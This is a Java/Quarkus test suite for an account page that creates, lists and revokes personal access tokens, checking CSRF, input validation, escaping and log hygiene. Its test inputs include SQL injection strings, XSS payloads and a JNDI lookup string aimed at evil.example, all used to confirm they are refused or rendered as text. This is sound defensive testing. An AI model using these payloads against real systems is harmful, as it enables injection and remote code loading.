package dev.userinfo.auth.account;

import static dev.userinfo.auth.testing.PageBrowser.hidden;
import static org.hamcrest.Matchers.containsString;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.ObjectMapper;
import dev.userinfo.auth.app.ClientSecrets;
import dev.userinfo.auth.testing.Fixtures.TestUser;
import dev.userinfo.auth.testing.Fixtures;
import dev.userinfo.auth.testing.PageBrowser;
import dev.userinfo.auth.testing.RawHttps;
import dev.userinfo.auth.token.Grants;
import dev.userinfo.jwt.testing.TestHttps;
import io.quarkus.test.common.http.TestHTTPResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.http.ContentType;
import io.restassured.response.Response;
import java.net.URL;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.Callable;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/** /account/tokens: create (shown once, stored as a hash), list, revoke; CSRF on every form; bad input refused. */
@QuarkusTest
class PersonalTokensPageTest {

    static final String FEED = Grants.basic("userinfo-service", "userinfo-service-demo-secret");
    static final ObjectMapper JSON = new ObjectMapper();
    static final Pattern NEW_TOKEN = Pattern.compile("<p class=\"secret\" id=\"new-token\">(pat_[A-Za-z0-9_-]{43})</p>");

    @TestHTTPResource(value = "/", tls = true)
    URL url;

    @BeforeEach
    void forgetFailuresFromThisAddress() {
        Fixtures.execute("DELETE FROM login_throttle WHERE throttle_key LIKE 'ip:%'");
    }

    private PageBrowser signedIn(TestUser user) {
        return PageBrowser.signedIn(url, user);
    }

    private static String csrf(PageBrowser browser) {
        Response page = browser.get("/account/tokens");
        assertEquals(200, page.statusCode(), page.asString());
        return hidden(page.asString(), "csrf");
    }

    private static Map<String, Object> form(String csrf, String name, Object scope, String days) {
        Map<String, Object> form = new LinkedHashMap<>();
        if (csrf != null) {
            form.put("csrf", csrf);
        }
        if (name != null) {
            form.put("name", name);
        }
        if (scope != null) {
            form.put("scope", scope);
        }
        if (days != null) {
            form.put("days", days);
        }
        return form;
    }

    private static String createdToken(Response response) {
        assertEquals(200, response.statusCode(), response.asString());
        Matcher m = NEW_TOKEN.matcher(response.asString());
        assertTrue(m.find(), response.asString());
        return m.group(1);
    }

    /** Every row of the user's tokens and every revocation row, as text: "nothing changed" is this being equal. */
    private static String state(long userId) {
        return Fixtures.count("SELECT count(*) FROM personal_access_token WHERE user_id = :p1", userId) + "/"
                + Fixtures.count("SELECT count(*) FROM personal_access_token WHERE user_id = :p1 AND revoked_at IS NOT NULL", userId) + "/"
                + Fixtures.count("SELECT count(*) FROM revocation") + "/"
                + Fixtures.count("SELECT coalesce(max(seq), 0) FROM revocation");
    }

    private Response introspect(String token) {
        return TestHttps.given(url).contentType(ContentType.URLENC).header("Authorization", FEED)
                .formParams(Map.of("token", token)).post("/oauth2/introspect");
    }

    private static void assertInactive(Response response) throws Exception {
        assertEquals(200, response.statusCode(), response.asString());
        assertEquals(JSON.readTree("{\"active\":false}"), JSON.readTree(response.asString()));
    }

    private static void assertErrorPage(Response response, int status, String detail) {
        assertEquals(status, response.statusCode(), response.asString());
        response.then().contentType(containsString("text/html")).header("Cache-Control", "no-store")
                .header("X-Frame-Options", "DENY");
        assertNull(response.header("Location"));
        assertFalse(response.asString().contains("id=\"new-token\""), "no token shown");
        if (detail != null) {
            response.then().body(containsString(detail));
        }
    }

    @Test
    void notSignedInTheGetGoesToLoginAndTheFormsAreRefused() {
        PageBrowser anonymous = new PageBrowser(url);
        Response page = anonymous.get("/account/tokens");
        assertEquals(303, page.statusCode());
        assertEquals("/login?return_to=%2Faccount%2Ftokens", page.header("Location"));
        long before = Fixtures.count("SELECT count(*) FROM personal_access_token");
        assertErrorPage(anonymous.post("/account/tokens", form("x", "script", "user_info_read", "30")), 401, null);
        assertErrorPage(anonymous.post("/account/tokens/revoke", Map.of("csrf", "x", "id", "1")), 401, null);
        assertEquals(before, Fixtures.count("SELECT count(*) FROM personal_access_token"));
        // A malformed query on the page is no reason for a server error.
        // (Malformed percent-encoding is refused by the HTTP layer before any page.)
        assertEquals(400, RawHttps.get(url, "/account/tokens?%zz").status());
        for (String target : List.of("/account/tokens?revoked=%E0%A4", "/account/tokens?revoked&revoked", "/account/tokens?%E4%BB%A4%E7%89%8C=1")) {
            RawHttps.Answer answer = RawHttps.get(url, target);
            assertEquals(303, answer.status(), target + "\n" + answer.head());
            assertEquals("/login?return_to=%2Faccount%2Ftokens", answer.header("Location"), target);
        }
    }

    @Test
    void aCreatedTokenIsShownOnceStoredAsItsHashAndWorksAtIntrospection() throws Exception {
        TestUser user = Fixtures.user("pat-ann");
        PageBrowser browser = signedIn(user);
        Response empty = browser.get("/account/tokens");
        empty.then().statusCode(200).header("Cache-Control", "no-store").body(containsString("id=\"no-tokens\""));

        Response created = browser.post("/account/tokens",
                form(hidden(empty.asString(), "csrf"), "  ci script  ", List.of("user_info_read", "quota_read"), "7"));
        String token = createdToken(created);
        created.then().header("Cache-Control", "no-store").body(containsString("ci script"));

        // Stored: exactly one row, name stripped, the hash of the whole value, never the value itself.
        assertEquals(1, Fixtures.count("SELECT count(*) FROM personal_access_token WHERE user_id = :p1", user.id()));
        assertEquals(1, Fixtures.count("SELECT count(*) FROM personal_access_token WHERE user_id = :p1 AND name = 'ci script' "
                + "AND token_hash = :p2 AND scopes = ARRAY['user_info_read','quota_read']::text[] AND revoked_at IS NULL "
                + "AND expires_at BETWEEN created_at + interval '7 days' - interval '1 minute' AND created_at + interval '7 days' "
                + "+ interval '1 minute'", user.id(), ClientSecrets.hash(token)));
        String plainHex = HexFormat.of().formatHex(token.getBytes(StandardCharsets.UTF_8));
        String secretPart = token.substring(4);
        assertEquals(0, Fixtures.count("SELECT count(*) FROM personal_access_token t WHERE strpos(t::text, :p1) > 0 "
                + "OR strpos(t::text, :p2) > 0 OR strpos(t::text, :p3) > 0", token, plainHex, secretPart));

        // Listed without its value; the value is never shown again.
        Response listed = browser.get("/account/tokens");
        listed.then().statusCode(200).body(containsString("ci script")).body(containsString("user_info_read quota_read"));
        assertFalse(listed.asString().contains(token));
        assertFalse(listed.asString().contains(secretPart));
        assertFalse(listed.asString().contains("id=\"new-token\""));

        long id = Fixtures.count("SELECT id FROM personal_access_token WHERE token_hash = :p1", ClientSecrets.hash(token));
        long exp = Fixtures.count("SELECT floor(extract(epoch FROM expires_at))::bigint FROM personal_access_token WHERE id = :p1", id);
        long iat = Fixtures.count("SELECT floor(extract(epoch FROM created_at))::bigint FROM personal_access_token WHERE id = :p1", id);
        String issuer = TestHttps.given(url).get("/.well-known/openid-configuration").path("issuer");
        Response active = introspect(token);
        assertEquals(200, active.statusCode(), active.asString());
        Map<String, Object> expected = new LinkedHashMap<>();
        expected.put("active", true);
        expected.put("scope", "user_info_read quota_read");
        expected.put("client_id", "personal-access-token");
        expected.put("username", user.login());
        expected.put("token_type", "Bearer");
        expected.put("exp", exp);
        expected.put("iat", iat);
        expected.put("sub", Long.toString(user.id()));
        expected.put("iss", issuer);
        expected.put("jti", Long.toString(id));
        assertEquals(JSON.readTree(JSON.writeValueAsString(expected)), JSON.readTree(active.asString()));
    }

    @Test
    void revokingMarksTheRowWritesAPatRevocationAndTheTokenGoesInactive() throws Exception {
        TestUser user = Fixtures.user("pat-bob");
        PageBrowser browser = signedIn(user);
        String csrf = csrf(browser);
        String token = createdToken(browser.post("/account/tokens", form(csrf, "deploy", "quota_read", "30")));
        long id = Fixtures.count("SELECT id FROM personal_access_token WHERE token_hash = :p1", ClientSecrets.hash(token));
        assertEquals(true, introspect(token).path("active"));
        long revocationsBefore = Fixtures.count("SELECT count(*) FROM revocation");

        Response revoked = browser.post("/account/tokens/revoke", Map.of("csrf", csrf, "id", Long.toString(id)));
        assertEquals(303, revoked.statusCode(), revoked.asString());
        assertEquals("/account/tokens?revoked", revoked.header("Location"));
        assertEquals(1, Fixtures.count("SELECT count(*) FROM personal_access_token WHERE id = :p1 AND revoked_at IS NOT NULL "
                + "AND revoked_at <= now()", id));
        assertEquals(1, Fixtures.count("SELECT count(*) FROM revocation WHERE kind = 'pat' AND token_id = :p1 AND subject = :p2 "
                + "AND grant_id IS NULL AND client_id IS NULL AND expires_at > now()", Long.toString(id), Long.toString(user.id())));
        assertEquals(revocationsBefore + 1, Fixtures.count("SELECT count(*) FROM revocation"));
        assertInactive(introspect(token));

        Response page = browser.get("/account/tokens?revoked");
        page.then().statusCode(200).body(containsString("id=\"notice\"")).body(containsString("id=\"no-tokens\""));
        assertFalse(page.asString().contains("data-token-id=\"" + id + "\""));

        // Revoking again: not found, and nothing more is written.
        String before = state(user.id());
        assertErrorPage(browser.post("/account/tokens/revoke", Map.of("csrf", csrf, "id", Long.toString(id))), 404, "no such token");
        assertEquals(before, state(user.id()));
        // The name is free again once revoked.
        createdToken(browser.post("/account/tokens", form(csrf, "deploy", "quota_read", "30")));
    }

    @Test
    void everyFormRefusesAMissingWrongOrForeignCsrfTokenAndChangesNothing() throws Exception {
        TestUser user = Fixtures.user("pat-cat");
        PageBrowser browser = signedIn(user);
        String csrf = csrf(browser);
        String token = createdToken(browser.post("/account/tokens", form(csrf, "kept", "user_info_read", "30")));
        long id = Fixtures.count("SELECT id FROM personal_access_token WHERE token_hash = :p1", ClientSecrets.hash(token));
        String foreign = csrf(signedIn(Fixtures.user("pat-cat-other")));
        String before = state(user.id());

        List<String> bad = new ArrayList<>(List.of("", "forged", foreign, csrf + "x", csrf.substring(1), csrf.toUpperCase(),
                "' OR '1'='1", "令牌"));
        for (String wrong : bad) {
            assertErrorPage(browser.post("/account/tokens", form(wrong, "new-" + bad.indexOf(wrong), "user_info_read", "30")), 403, null);
            assertErrorPage(browser.post("/account/tokens/revoke", Map.of("csrf", wrong, "id", Long.toString(id))), 403, null);
        }
        assertErrorPage(browser.post("/account/tokens", form(null, "no-csrf", "user_info_read", "30")), 403, null);
        assertErrorPage(browser.post("/account/tokens/revoke", Map.of("id", Long.toString(id))), 403, null);
        // Repeated csrf, even the right one twice: refused as malformed.
        Map<String, Object> twice = form(null, "twice", "user_info_read", "30");
        twice.put("csrf", List.of(csrf, csrf));
        assertErrorPage(browser.post("/account/tokens", twice), 400, "parameter csrf is repeated");
        assertErrorPage(browser.post("/account/tokens/revoke", Map.of("csrf", List.of(csrf, csrf), "id", Long.toString(id))), 400,
                "parameter csrf is repeated");
        // The valid token sent from a browser without the session cookie.
        assertErrorPage(new PageBrowser(url).post("/account/tokens/revoke", Map.of("csrf", csrf, "id", Long.toString(id))), 401, null);

        assertEquals(before, state(user.id()));
        assertEquals(true, introspect(token).path("active"));
    }

    @Test
    void anotherUsersTokenCannotBeRevoked() throws Exception {
        TestUser owner = Fixtures.user("pat-dan");
        PageBrowser ownerBrowser = signedIn(owner);
        String token = createdToken(ownerBrowser.post("/account/tokens", form(csrf(ownerBrowser), "mine", "quota_read", "30")));
        long id = Fixtures.count("SELECT id FROM personal_access_token WHERE token_hash = :p1", ClientSecrets.hash(token));

        TestUser thief = Fixtures.user("pat-dan-thief");
        PageBrowser thiefBrowser = signedIn(thief);
        String before = state(owner.id());
        assertErrorPage(thiefBrowser.post("/account/tokens/revoke", Map.of("csrf", csrf(thiefBrowser), "id", Long.toString(id))),
                404, "no such token");
        assertEquals(before, state(owner.id()));
        assertEquals(0, Fixtures.count("SELECT count(*) FROM revocation WHERE kind = 'pat' AND token_id = :p1", Long.toString(id)));
        assertEquals(true, introspect(token).path("active"));
        // Nor does it appear on their page.
        assertFalse(thiefBrowser.get("/account/tokens").asString().contains("data-token-id=\"" + id + "\""));
    }

    @Test
    void badNamesScopesAndExpiriesGetTheFormBackWithAReasonAndCreateNothing() {
        TestUser user = Fixtures.user("pat-eve");
        PageBrowser browser = signedIn(user);
        String csrf = csrf(browser);
        createdToken(browser.post("/account/tokens", form(csrf, "taken", "quota_read", "30")));
        String before = state(user.id());

        Map<String, Map<String, Object>> cases = new LinkedHashMap<>();
        String nameRule = "name is required: 1 to 64 characters";
        cases.put(nameRule + "|empty", form(csrf, "", "quota_read", "30"));
        cases.put(nameRule + "|missing", form(csrf, null, "quota_read", "30"));
        cases.put(nameRule + "|blank", form(csrf, "   \t ", "quota_read", "30"));
        cases.put(nameRule + "|65", form(csrf, "n".repeat(65), "quota_read", "30"));
        cases.put(nameRule + "|huge", form(csrf, "n".repeat(10_000), "quota_read", "30"));
        cases.put(nameRule + "|33 emoji = 66 chars", form(csrf, "🔑".repeat(33), "quota_read", "30"));
        cases.put(nameRule + "|control", form(csrf, "line\nbreak", "quota_read", "30"));
        cases.put(nameRule + "|escape", form(csrf, "bell\u0007", "quota_read", "30"));
        cases.put("a token with this name exists|duplicate", form(csrf, "taken", "user_info_read", "30"));
        cases.put("a token with this name exists|duplicate after strip", form(csrf, " taken ", "user_info_read", "30"));
        cases.put("choose at least one permission|none", form(csrf, "s1", null, "30"));
        String unavailable = "a chosen permission is not available for personal tokens";
        cases.put(unavailable + "|openid", form(csrf, "s2", "openid", "30"));
        cases.put(unavailable + "|offline_access", form(csrf, "s3", List.of("quota_read", "offline_access"), "30"));
        cases.put(unavailable + "|unknown", form(csrf, "s4", "admin", "30"));
        cases.put(unavailable + "|empty", form(csrf, "s5", "", "30"));
        cases.put(unavailable + "|injection", form(csrf, "s6", "quota_read' OR '1'='1", "30"));
        cases.put(unavailable + "|unicode", form(csrf, "s7", "读取", "30"));
        cases.put(unavailable + "|space-joined", form(csrf, "s8", "quota_read user_info_read", "30"));
        cases.put(unavailable + "|case", form(csrf, "s9", "QUOTA_READ", "30"));
        String expiry = "expiry must be between 1 and 365 days";
        for (String days : List.of("0", "-1", "366", "999999", "9999999999999999999999", "abc", "1.5", "1e2", "", " 30", "30 ",
                "３０", "0x1E", "30; DROP TABLE personal_access_token")) {
            cases.put(expiry + "|days=" + days, form(csrf, "d" + cases.size(), "quota_read", days));
        }
        cases.put(expiry + "|days missing", form(csrf, "dm", "quota_read", null));

        cases.forEach((label, form) -> {
            String detail = label.substring(0, label.indexOf('|'));
            Response response = browser.post("/account/tokens", form);
            assertEquals(400, response.statusCode(), label + ": " + response.asString());
            response.then().contentType(containsString("text/html")).header("Cache-Control", "no-store")
                    .body(containsString("<p class=\"error\" id=\"token-error\">" + detail + "</p>"));
            assertFalse(response.asString().contains("id=\"new-token\""), label);
            // The form comes back with a fresh chance: the same CSRF token.
            assertEquals(csrf, hidden(response.asString(), "csrf"), label);
            assertEquals(before, state(user.id()), label);
        });
        // The refused name is echoed back into the form escaped, never as markup.
        Response xss = browser.post("/account/tokens", form(csrf, "<script>alert(1)</script>", "quota_read", "0"));
        assertEquals(400, xss.statusCode());
        assertFalse(xss.asString().contains("<script>alert(1)</script>"));
        xss.then().body(containsString("value=\"&lt;script&gt;alert(1)&lt;/script&gt;\""));

        // Malformed forms: a reason, no 500, nothing created.
        Map<String, String> malformed = new LinkedHashMap<>();
        malformed.put("csrf=" + PageBrowser.urlEncode(csrf) + "&name=a&name=b&scope=quota_read&days=30", "parameter name is repeated");
        malformed.put("csrf=" + PageBrowser.urlEncode(csrf) + "&name=a&scope=quota_read&days=30&days=31", "parameter days is repeated");
        malformed.put("csrf=" + PageBrowser.urlEncode(csrf) + "&name=a%00b&scope=quota_read&days=30", "parameter name contains a NUL character");
        malformed.put("csrf=" + PageBrowser.urlEncode(csrf) + "&name=a&scope=quota_read%00&days=30", "parameter scope contains a NUL character");
        malformed.put("csrf=" + PageBrowser.urlEncode(csrf) + "&name=%zz&scope=quota_read&days=30", "the form has malformed percent-encoding");
        malformed.put("csrf=" + PageBrowser.urlEncode(csrf) + "&name=%C3%28&scope=quota_read&days=30", "the form is not valid UTF-8");
        malformed.put("csrf=" + PageBrowser.urlEncode(csrf) + "&name=a&scope=quota_read&days=30&pad=" + "p".repeat(17_000),
                "the form is larger than 16384 bytes");
        malformed.forEach((body, detail) -> {
            assertErrorPage(browser.postRaw("/account/tokens", "application/x-www-form-urlencoded", body), 400, detail);
            assertEquals(before, state(user.id()), detail);
        });
        assertErrorPage(browser.postRaw("/account/tokens", "application/json",
                "{\"csrf\":\"" + csrf + "\",\"name\":\"j\",\"scope\":\"quota_read\",\"days\":\"30\"}"), 400,
                "the form must be sent as application/x-www-form-urlencoded");
        assertErrorPage(browser.postRaw("/account/tokens", null, ""), 400, "the form must be sent as");
        assertEquals(before, state(user.id()));
    }

    @Test
    void unicodeAndInjectionNamesAreJustNamesAndTheRepeatedScopeCountsOnce() {
        TestUser user = Fixtures.user("pat-fay");
        PageBrowser browser = signedIn(user);
        String csrf = csrf(browser);
        List<String> names = List.of("部署脚本 🔑", "'; DROP TABLE personal_access_token; --", "<img src=x onerror=alert(1)>",
                "n".repeat(64), "ünïcödé ＆ full-width", "${jndi:ldap://evil.example/a}", "{#include base /}");
        for (String name : names) {
            String token = createdToken(browser.post("/account/tokens", form(csrf, name, List.of("quota_read", "quota_read"), "365")));
            assertEquals(1, Fixtures.count("SELECT count(*) FROM personal_access_token WHERE user_id = :p1 AND name = :p2 "
                    + "AND token_hash = :p3 AND scopes = ARRAY['quota_read']::text[]", user.id(), name, ClientSecrets.hash(token)), name);
        }
        assertEquals(names.size(), Fixtures.count("SELECT count(*) FROM personal_access_token WHERE user_id = :p1", user.id()));
        String page = browser.get("/account/tokens").asString();
        assertFalse(page.contains("<img src=x"), "names are escaped");
        assertTrue(page.contains("&lt;img src=x onerror=alert(1)&gt;"), page);
        assertTrue(page.contains("部署脚本 🔑"));
        assertTrue(page.contains("{#include base /}"), "a template-looking name is text");
        assertTrue(page.contains("${jndi:ldap://evil.example/a}"));
    }

    @Test
    void atMostFiftyActiveTokens() {
        TestUser user = Fixtures.user("pat-gus");
        for (int i = 0; i < 50; i++) {
            Fixtures.execute("INSERT INTO personal_access_token (user_id, name, token_hash, scopes, expires_at) "
                    + "VALUES (:p1, :p2, :p3, ARRAY['quota_read'], now() + interval '1 day')", user.id(), "bulk " + i,
                    ClientSecrets.hash("pat_bulk_" + user.id() + "_" + i));
        }
        PageBrowser browser = signedIn(user);
        String before = state(user.id());
        Response refused = browser.post("/account/tokens", form(csrf(browser), "one too many", "quota_read", "30"));
        assertEquals(400, refused.statusCode(), refused.asString());
        refused.then().body(containsString("at most 50 tokens at a time"));
        assertEquals(before, state(user.id()));
    }

    @Test
    void theSameNameCreatedConcurrentlyYieldsOneTokenAndClearRefusalsNeverA500() throws Exception {
        TestUser user = Fixtures.user("pat-hal");
        PageBrowser browser = signedIn(user);
        String csrf = csrf(browser);
        for (int round = 0; round < 3; round++) {
            String name = "race " + round;
            ExecutorService pool = Executors.newFixedThreadPool(6);
            try {
                List<Callable<Response>> calls = new ArrayList<>();
                for (int i = 0; i < 6; i++) {
                    // One browser per thread (PageBrowser is not thread-safe), all with the same session cookie.
                    PageBrowser tab = new PageBrowser(url);
                    tab.cookies().putAll(browser.cookies());
                    calls.add(() -> tab.post("/account/tokens", form(csrf, name, "quota_read", "30")));
                }
                List<Integer> statuses = new ArrayList<>();
                for (Future<Response> f : pool.invokeAll(calls)) {
                    Response r = f.get();
                    statuses.add(r.statusCode());
                    if (r.statusCode() == 400) {
                        r.then().body(containsString("a token with this name exists"));
                    }
                }
                assertEquals(1, statuses.stream().filter(s -> s == 200).count(), name + " " + statuses);
                assertEquals(5, statuses.stream().filter(s -> s == 400).count(), name + " " + statuses);
            } finally {
                pool.shutdownNow();
            }
            assertEquals(1, Fixtures.count("SELECT count(*) FROM personal_access_token WHERE user_id = :p1 AND name = :p2",
                    user.id(), name));
        }
    }

    @Test
    void revokeRefusesBadIdsWithNotFoundAndChangesNothing() {
        TestUser user = Fixtures.user("pat-ida");
        PageBrowser browser = signedIn(user);
        String csrf = csrf(browser);
        String token = createdToken(browser.post("/account/tokens", form(csrf, "target", "quota_read", "30")));
        long id = Fixtures.count("SELECT id FROM personal_access_token WHERE token_hash = :p1", ClientSecrets.hash(token));
        String before = state(user.id());
        for (String bad : List.of("", "abc", "-" + id, "+" + id, id + ".0", " " + id, id + " ", "0x" + Long.toHexString(id),
                "９", "999999999999999999", "9999999999999999999", "9".repeat(400), "1 OR 1=1", "' OR '1'='1", "令牌", "<b>1</b>")) {
            assertErrorPage(browser.post("/account/tokens/revoke", Map.of("csrf", csrf, "id", bad)), 404, "no such token");
            assertEquals(before, state(user.id()), bad);
        }
        assertErrorPage(browser.post("/account/tokens/revoke", Map.of("csrf", csrf)), 404, "no such token");
        assertErrorPage(browser.post("/account/tokens/revoke", Map.of("csrf", csrf, "id", List.of(Long.toString(id), Long.toString(id)))),
                400, "parameter id is repeated");
        assertErrorPage(browser.postRaw("/account/tokens/revoke", "application/x-www-form-urlencoded",
                "csrf=" + PageBrowser.urlEncode(csrf) + "&id=%zz"), 400, "malformed percent-encoding");
        assertErrorPage(browser.postRaw("/account/tokens/revoke", "text/plain", "csrf=" + csrf + "&id=" + id), 400, null);
        assertEquals(before, state(user.id()));
    }

    @Test
    void neitherTheTokenNorTheSessionNorTheCsrfTokenReachesTheLog() throws Exception {
        TestUser user = Fixtures.user("pat-jon");
        PageBrowser browser = signedIn(user);
        String csrf = csrf(browser);
        String token = createdToken(browser.post("/account/tokens", form(csrf, "logged?", "quota_read", "30")));
        long id = Fixtures.count("SELECT id FROM personal_access_token WHERE token_hash = :p1", ClientSecrets.hash(token));
        introspect(token).then().statusCode(200);
        browser.post("/account/tokens/revoke", Map.of("csrf", csrf, "id", Long.toString(id))).then().statusCode(303);
        introspect(token).then().statusCode(200);
        String log = Files.readString(Path.of("target/quarkus-test.log"));
        assertTrue(log.contains("/account/tokens/revoke"), "the access log saw the requests");
        for (String secret : List.of(token, token.substring(4), csrf, browser.sessionCookie(), user.password())) {
            assertFalse(log.contains(secret), "a secret reached the log");
        }
    }
}
